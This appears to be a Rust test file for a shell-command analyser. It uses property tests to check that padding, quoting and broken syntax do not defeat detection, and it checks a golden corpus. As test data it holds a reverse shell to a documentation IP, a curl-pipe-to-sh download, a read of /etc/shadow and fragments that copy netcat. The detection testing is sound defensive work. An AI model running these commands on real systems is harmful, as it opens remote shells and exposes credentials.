//! The signals as a whole: declarations hold, any text gives a row, golden commands give theirs.

use std::collections::BTreeMap;

use proptest::prelude::*;
use serde::Deserialize;

use super::*;
use crate::command::ParseIssue;
use crate::declare::testing::{Problems, check_schema, check_values, names_of};

fn row_of(command: &Command) -> Vec<f32> {
    let mut row = vec![7.0];
    signals_of(command, &mut row);
    row
}

fn read(text: &str) -> Command {
    Command::parse(text, &Limits::default()).0
}

#[test]
fn declarations_are_complete() {
    assert!(schema().signals.len() >= 100);
    check_schema(schema(), "command/4 0037b8a34a15");
}

/// Checks what holds for the row of any command.
fn check_row(text: &str) -> Result<(), TestCaseError> {
    check_values(schema(), &row_of(&read(text)), &[("likelihood", -64.0)])
}

/// Pieces that commands are made of and broken with.
const PIECES: &[&str] = &[
    "wget ",
    "sh",
    " -c ",
    "'",
    "\"",
    "$(",
    ")",
    "`",
    "${",
    "}",
    "{a,b}",
    "\\",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    "&",
    ">",
    "<",
    ">>",
    "<<EOF",
    "EOF",
    "<<<",
    "2>&1",
    "$'\\x41",
    "$IFS",
    "A=b ",
    "$A",
    "echo ",
    "base64 -d",
    "eval ",
    "# ",
    "((",
    "[[",
    "é",
    "🦀",
    "\0",
    "\t",
    "/dev/tcp/192.0.2.7/1",
    "busybox ",
    "find . -exec ",
    " \\;",
    "python -c ",
    "sudo ",
    "xargs ",
    "cp /bin/nc /tmp/x;",
    "/tmp/../tmp//x ",
];

proptest! {
    #[test]
    fn any_text_gives_a_row(text in any::<String>()) {
        check_row(&text)?;
    }

    #[test]
    fn any_broken_command_gives_a_row(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24)) {
        check_row(&pieces.concat())?;
    }

    #[test]
    fn what_stands_before_does_not_dilute(words in "[a-z]{1,9}( [a-z0-9./-]{1,12}){0,9}") {
        for bad in ["bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "curl http://192.0.2.7/x | sh", "cat /etc/shadow"] {
            let plain = read(bad).findings;
            let padded = read(&format!("{words} ; {bad}")).findings;
            prop_assert!(padded.worst >= plain.worst);
            prop_assert!(plain.names().all(|name| padded.names().any(|other| other == name)));
        }
    }

    #[test]
    fn reading_again_changes_nothing(words in prop::collection::vec("[a-zA-Z0-9./_-]{1,9}|'[a-z ;|]{0,9}'|\"[a-z *]{0,9}\"", 1..8)) {
        let once = read(&words.join(" ")).normalised();
        prop_assert_eq!(read(&once).normalised(), once);
    }

    #[test]
    fn quoting_does_not_matter(word in "[a-z]{2,9}", cut in 1_usize..8, rest in "[a-z0-9 ./]{0,20}") {
        let cut = cut.min(word.len().saturating_sub(1));
        let (head, tail) = word.split_at(cut);
        let plain = read(&format!("{word} {rest}")).normalised();
        for disguised in [
            format!("{head}''{tail} {rest}"),
            format!("'{head}'{tail} {rest}"),
            format!("{head}\"{tail}\" {rest}"),
            format!("{head}\\\n{tail} {rest}"),
        ] {
            prop_assert_eq!(&read(&disguised).normalised(), &plain, "{}", disguised);
        }
    }
}

/// One golden command: what the shell makes of it, what it does, and signals that must have these values.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// What the case is about.
    what: String,
    #[serde(default)]
    command: String,
    /// An argument vector instead of a line.
    #[serde(default)]
    arguments: Vec<String>,
    /// Repeats `command` this often, for long ones.
    #[serde(default)]
    repeat: Option<usize>,
    /// The normalised text; not checked where it is left out.
    #[serde(default)]
    normalised: Option<String>,
    #[serde(default)]
    programs: Option<Vec<String>>,
    /// Actions that must be found.
    #[serde(default)]
    actions: Vec<String>,
    /// Actions that must not be found.
    #[serde(default)]
    not: Vec<String>,
    /// Ids of techniques that must be found.
    #[serde(default)]
    techniques: Vec<String>,
    #[serde(default)]
    issues: Vec<String>,
    #[serde(default)]
    signals: BTreeMap<String, f32>,
}

#[derive(Deserialize)]
struct Corpus {
    case: Vec<Case>,
}

#[test]
fn golden_commands() {
    let corpus: Corpus =
        toml::from_str(include_str!("../../../../../corpora/command/cases.toml")).expect("corpus");
    assert!(corpus.case.len() >= 60);
    let problems: Vec<String> = corpus.case.iter().flat_map(problems_of).collect();
    assert!(problems.is_empty(), "{problems:#?}");
}

fn parsed(case: &Case) -> (Command, Vec<ParseIssue>) {
    let limits = Limits::default();
    if case.arguments.is_empty() {
        Command::parse(&case.command.repeat(case.repeat.unwrap_or(1)), &limits)
    } else {
        Command::of_arguments(&case.arguments, &limits)
    }
}

/// Returns what of a case does not hold.
fn problems_of(case: &Case) -> Vec<String> {
    let (command, issues) = parsed(case);
    let mut problems = Problems::of(&case.what);
    problems.compare("issues", &case.issues.join(" "), &names_of(&issues));
    let normalised = command.normalised();
    problems.compare(
        "normalised",
        case.normalised.as_deref().unwrap_or(&normalised),
        &normalised,
    );
    let programs: Vec<&str> = command.programs().collect();
    let expected = case
        .programs
        .as_ref()
        .map_or_else(|| programs.join(" "), |expected| expected.join(" "));
    problems.compare("programs", &expected, &programs.join(" "));
    let names: Vec<&str> = command.findings.names().collect();
    let expected = [(&case.actions, "found"), (&case.not, "missing")];
    for (actions, expected) in expected {
        for action in actions {
            let is_found = names.contains(&action.as_str());
            problems.compare(action, expected, if is_found { "found" } else { "missing" });
        }
    }
    for id in &case.techniques {
        let has = command.techniques().any(|technique| technique.id == id);
        problems.compare(id, "true", &has.to_string());
    }
    let row = row_of(&command);
    problems.compare_signals(schema(), &row, (&case.signals, &[]));
    problems.into_found()
}
